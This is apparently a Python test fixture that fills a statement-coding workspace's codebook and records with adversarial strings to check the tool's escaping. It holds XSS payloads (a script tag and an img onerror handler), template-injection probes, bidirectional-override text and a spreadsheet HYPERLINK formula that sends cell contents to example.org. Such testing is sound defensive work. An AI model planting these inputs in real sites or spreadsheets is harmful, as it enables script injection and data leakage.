"""A workspace whose every text is hostile: tags, formulas, endless words, writing from right to left."""

from __future__ import annotations

import json
from itertools import count
from pathlib import Path
from typing import Any

from positions.model.document import sha256_of

SCRIPT = "<script>window.hurt = 1</script>"
PICTURE = "<img src=x onerror='window.hurt = 1'>"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"win")'
LONG = "w" * 10_000
BACKWARDS = "\u202eשלום עולם\u202c مرحبا"
TEXTS = (SCRIPT, PICTURE, FORMULA, LONG, BACKWARDS, "&lt;b&gt; {{7*7}} %s </title></textarea><b>", "@SUM(1)", "-1+1")


def hostile_workspace(folder: Path) -> Path:
    """Write the workspace; every kind of field meets every text over its several entries."""
    data, seeds = folder / "data", folder / "data" / "seeds"
    data.mkdir(parents=True)
    seeds.mkdir()
    turn = count()

    def bad(mark: str = "") -> str:
        return f"{TEXTS[next(turn) % len(TEXTS)]}{mark}"

    (data / "codebook.toml").write_text(_codebook(bad))
    documents, statements = [], []
    for number, day in enumerate(range(1, 9)):
        text = "\n".join(f"{quote} {place}." for place, quote in enumerate(TEXTS))
        name = f"seeds/{number:03d}.txt"
        (data / name).write_text(text)
        documents.append(
            {
                "id": f"{number:03d}",
                "title": bad(),
                "outlet": bad(),
                "published_on": f"2022-03-{day:02d}",
                "published_on_basis": "explicit",
                "url": "https://example.org/<script>" if number % 2 else "",
                "file": name,
                "sha256": sha256_of(text.encode()),
            }
        )
        statements += _statements(f"{number:03d}", text, day, bad)
    (data / "documents.jsonl").write_text("".join(json.dumps(line) + "\n" for line in documents))
    (data / "statements.jsonl").write_text("".join(json.dumps(line) + "\n" for line in statements))
    return data


PLACES = (("scale0", None), ("scale1", None), ("scale2", None), ("places", "p0"), ("places", "p1"), ("demands", "d0"))


def _statements(document: str, text: str, day: int, bad: Any) -> list[dict[str, Any]]:
    found = []
    for number, quote in enumerate(TEXTS):
        issue, element = PLACES[(number + day) % len(PLACES)]
        start = text.index(quote)
        holder = f"P{(number + day) % 3}"
        voice = ("self", "ascribed", "framing")[number % 3 if day > 2 else 0]
        speaker = {"self": holder, "ascribed": f"P{(number + day + 1) % 3}"}.get(voice)
        found.append(
            {
                "id": f"{document}-{number:02d}",
                "document": document,
                "quote": quote,
                "start": start,
                "end": start + len(quote),
                "holder": holder,
                "voice": voice,
                "issue": issue,
                "element": element,
                "directness": "framing" if voice == "framing" else "direct",
                "stance": (-2, -1, 1, 2)[number % 4],
                **({"speaker": f"s{speaker[1]}", "speaker_party": speaker} if speaker else {}),
                "said_on": f"2022-03-{day:02d}",
                "said_on_basis": "explicit",
                "coder": bad(),
                "note": bad(),
            }
        )
    return [{name: value for name, value in line.items() if value is not None} for line in found]


def _codebook(bad: Any) -> str:
    def text(mark: str = "") -> str:
        return json.dumps(bad(mark), ensure_ascii=True)

    def levels() -> str:
        told = [f"{{ stance = {s}, label = {text()}, definition = {text()} }}" for s in (2, 1, -1, -2)]
        return f"levels = [{', '.join(told)}]\n"

    parts = [f"title = {text()}\ndescription = {text()}\nin_scope = [{text()}]\nout_of_scope = [{text()}]\n"]
    parts += [
        f'[[parties]]\nid = "P{n}"\nname = {text(f" {n}")}\nprincipal = true\nnote = {text()}\n' for n in range(3)
    ]
    for n in range(3):
        names = f"name = {text(f' {n}')}\naliases = [{text(f' of {n}')}]\nnote = {text()}\n"
        role = f'roles = [{{ party = "P{n}", title = {text()} }}]\n'
        parts.append(f'[[speakers]]\nid = "s{n}"\nkind = "person"\n{names}{role}')
    places = ", ".join(f'{{ id = "p{n}", label = {text()}, definition = {text()} }}' for n in range(2))
    demand = f'{{ id = "d0", label = {text()}, definition = {text()}, addressees = ["P0"] }}'
    kinds = {"scale0": "scale", "scale1": "scale", "scale2": "scale", "places": "options", "demands": "conditions"}
    elements = {"options": f"elements = [{places}]\n", "conditions": f"elements = [{demand}]\n"}
    for issue, kind in kinds.items():
        words = f"label = {text()}\ndefinition = {text()}\nplus = {text()}\nminus = {text()}\n"
        parts.append(f'[[issues]]\nid = "{issue}"\nkind = "{kind}"\n{words}{levels()}{elements.get(kind, "")}')
    return "\n".join(parts)
